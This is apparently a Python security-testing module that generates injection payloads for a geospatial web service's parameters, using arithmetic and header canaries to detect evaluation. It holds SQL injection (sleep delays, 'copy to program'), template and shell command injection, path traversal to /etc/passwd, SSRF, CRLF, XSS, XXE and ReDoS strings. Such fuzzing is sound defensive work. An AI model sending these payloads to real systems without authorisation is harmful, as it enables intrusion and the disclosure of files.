"""What strangers write into parameters, made by rules: every language that a text could be taken for."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import NamedTuple

#: What stands in an answer where a text was worked out instead of told: 7919 × 6997.
PRODUCT = "55409243"
#: A header and an element that no answer has by itself.
HEADER, ELEMENT = "x-chiiki-canary", "chiiki-canary"
SLOW_S = 20


class Payload(NamedTuple):
    """A text and what it is made to be taken for."""

    kind: str
    text: str


def _sql() -> Iterator[str]:
    ends = ("", " -- ", ";--", "/*", "#", "\0")
    closings = ("'", '"', "')", "'))", "]", "`", "$$", "\\'", "％27")
    works = (
        " or 1=1",
        " union select version()",
        f"||(select {7919}*6997)||'",
        f"; select pg_sleep({SLOW_S})",
        f" and {SLOW_S}=(select {SLOW_S} from pg_sleep({SLOW_S}))",
        "; create table chiiki_canary()",
        "; copy (select 1) to program 'true'",
        " and 1=cast((select current_user) as int)",
    )
    for number, (closing, work) in enumerate(product(closings, works)):
        yield f"population{closing}{work}{ends[number % len(ends)]}"
    yield from ("1;set role postgres", "0x50", "(select 1)", "$1", ":layer", "%(layer)s", "\\x00", "E'\\x27'")


def _cql() -> Iterator[str]:
    yield from (
        "1=1",
        "name LIKE '%' OR 1=1",
        "pg_sleep(20)=1",
        "current_user()='x'",
        "S_INTERSECTS(geometry,POINT(NaN NaN))",
        "S_INTERSECTS(geometry,ENVELOPE(1e308,-1e308,-1e308,1e308))",
        "S_WITHIN(geometry,POLYGON((0 0,1 1,0 1,1 0,0 0)))",
        "T_AFTER(datetime,TIMESTAMP('99999-01-01T00:00:00Z'))",
        "value BETWEEN 1e999 AND -1e999",
        "CASEI(CASEI(CASEI(name)))='x'",
        "NOT NOT NOT NOT value=1",
        "code IN ('','','')",
        '{"op":"=","args":[{"property":"code"},{"op":"pg_sleep","args":[20]}]}',
        '{"op":"like","args":[{"property":"name"},"%' + "%_" * 200 + '"]}',
        '{"op":"+","args":[]}',
        '{"a":' * 60 + "1" + "}" * 60,
        "value = 7919 * 6997 AND (",
        "name LIKE '" + "%a" * 300 + "'",
    )


def _formats() -> Iterator[str]:
    for opening, closing in (
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%= ", " %>"),
        ("{", "}"),
        ("%{", "}"),
    ):
        yield f"{opening}7919*6997{closing}"
        yield f"{opening}config.__class__.__init__.__globals__{closing}"
    yield from (
        "%s%s%s%s%n",
        "%99999999d",
        "{0:>99999999}",
        "{0.__class__}",
        "%(a)999999999s",
        "{self}",
        "$PATH",
    )
    yield from ("__import__('os').environ", "().__class__.__mro__[1].__subclasses__()", "@(7919*6997)")
    yield from ("$(cat /etc/passwd)", "`id`", "|id", "&&id", ";id", "T(java.lang.Runtime)", "=7919*6997")


def _paths() -> Iterator[str]:
    for up, file in product(
        ("../", "..\\", "..%2f", "%2e%2e/", "....//", "..;/", "／．．／"), ("etc/passwd", "proc/self/environ")
    ):
        yield up * 6 + file
    yield from (
        "/etc/passwd",
        "file:///etc/passwd",
        "//chiiki.example/x",
        "/\\chiiki.example",
        "C:\\boot.ini",
    )
    yield from (
        "/vsicurl/http://127.0.0.1:9/x",
        "http://127.0.0.1:9/",
        "php://filter",
        "\\\\host\\share",
        "~root",
    )


def _headers() -> Iterator[str]:
    for line in ("\r\n", "\n", "\r", "%0d%0a", "%250d%250a", "\u560a\u560d", "\u2028", "\x85"):
        yield f"a{line}{HEADER}: 1{line}{line}<{ELEMENT}>"


def _markup() -> Iterator[str]:
    openings = ("", '">', "'>", "</title>", "</script>", "</textarea>", "-->", "]]>", "</style>")
    elements = (f"<{ELEMENT}>", f"<img src=x onerror={ELEMENT}>", f"<svg/onload={ELEMENT}>")
    for opening, element in product(openings, elements):
        yield opening + element
    yield from (
        f"javascript:{ELEMENT}",
        f'" onmouseover="{ELEMENT}',
        f"＜{ELEMENT}＞",
        f"data:text/html,<{ELEMENT}>",
    )
    yield from (
        '{"__proto__":{"a":1}}',
        "\u2028alert(1)",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    )


def _signs() -> Iterator[str]:
    yield from (
        "\0",
        "a\0b",
        "\x01\x1b[31m",
        "\x7f",
        "\ufeff",
        "\u202e",
        "\ufffe",
        "\U0010ffff",
        "e\u0301" * 40,
    )
    yield from (
        "a" * 5000,
        "あ" * 3000,
        "%" * 500,
        "👨‍👩‍👧‍👦" * 200,
        "\u0130\u0131ß",
        "𝟙𝟚",
        "１２３",
        "²",
        "Ⅷ",
        " " * 300,
    )
    yield from ("\udcff", "\ud800", "%ff%fe", "%c0%ae%c0%ae", "%u002e", "\u200b\u200d", "İ" * 200, "ﷺ" * 100)


def _numbers() -> Iterator[str]:
    yield from (
        "-1",
        "0",
        "1e308",
        "1e999",
        "-0",
        "NaN",
        "inf",
        "9" * 300,
        "9223372036854775808",
        "2147483648",
    )
    yield from (
        "0x7f",
        "1_000",
        "+1",
        " 1",
        "1.0",
        "٣",
        "true",
        "null",
        "[]",
        "{}",
        "99999-99-99",
        "0000-00-00",
    )
    yield from (
        "-1,-1,-1,-1",
        "180,90,-180,-90",
        "1e308,1e308,1e308,1e308",
        "2020/..",
        "../2020",
        "../..",
        ",,,,",
    )


def _backtracking() -> Iterator[str]:
    yield from (
        "a" * 2000 + "!",
        "0" * 2000 + "x",
        "-" * 2000,
        "2020-" * 400,
        "(" * 1000,
        "a," * 1500,
        "((a+)+)+$",
    )
    yield from (
        "第" * 1000 + "回",
        " \t" * 1000 + "x",
        "." * 2000,
        "1" * 1500 + "." + "1" * 1500,
        "市町村区" * 500,
    )


_KINDS = {
    "SQL": _sql,
    "CQL": _cql,
    "format": _formats,
    "path": _paths,
    "header": _headers,
    "markup": _markup,
    "sign": _signs,
    "number": _numbers,
    "backtracking": _backtracking,
}
PAYLOADS = [Payload(kind, text) for kind, made in _KINDS.items() for text in made()]
